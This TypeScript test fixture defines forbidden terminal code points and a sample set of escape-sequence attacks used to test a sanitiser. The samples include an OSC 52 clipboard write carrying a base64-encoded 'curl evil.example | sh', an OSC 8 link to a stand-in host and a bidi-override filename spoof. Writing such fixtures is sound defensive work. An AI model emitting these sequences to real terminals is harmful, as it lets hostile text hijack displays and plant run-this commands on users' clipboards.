/**
 * Code points that must never reach a terminal from outside data: C0 controls but the newline a
 * renderer puts between lines, DEL, C1 controls, bidirectional controls, line and paragraph
 * separators. Written out here, apart from the sanitiser, so a gap in one shows in the other.
 */
const FORBIDDEN_RANGES: readonly [number, number][] = [
  [0x00, 0x09],
  [0x0b, 0x1f],
  [0x7f, 0x9f],
  [0x061c, 0x061c],
  [0x200e, 0x200f],
  [0x2028, 0x202e],
  [0x2066, 0x2069],
];

/** The forbidden characters in `text`, as `U+XXXX` (ESC included): `[]` when it is safe. */
export function forbiddenCharacters(text: string): string[] {
  const found: string[] = [];
  for (const char of text) {
    const code = char.codePointAt(0)!;
    if (FORBIDDEN_RANGES.some(([low, high]) => code >= low && code <= high)) {
      found.push(`U+${code.toString(16).toUpperCase().padStart(4, '0')}`);
    }
  }
  return found;
}

/**
 * Text from outside that would drive a terminal if printed raw, by what it tries: for tests that
 * pass each through a renderer and check the output with {@link forbiddenCharacters}.
 */
export const TERMINAL_ATTACKS: Readonly<Record<string, string>> = {
  'CSI clear screen': '\x1b[2J\x1b[3J\x1b[H',
  'CSI colours': '\x1b[41;97mALERT\x1b[0m',
  'OSC 8 hyperlink': '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\',
  'OSC 52 clipboard write': '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  DCS: '\x1bP+q544e\x1b\\',
  'carriage return overwrite': 'harmless\rEVIL    ',
  NUL: 'nul\x00byte',
  'C1 controls and 8-bit CSI': 'c1\u0085\u009b2J\u009d0;t\u009c',
  'bidi overrides': '\u202Egnp.exe\u202C \u2066isolate\u2069',
  'unterminated OSC': 'cut \x1b]8;;https://evil.example/ never terminated',
};
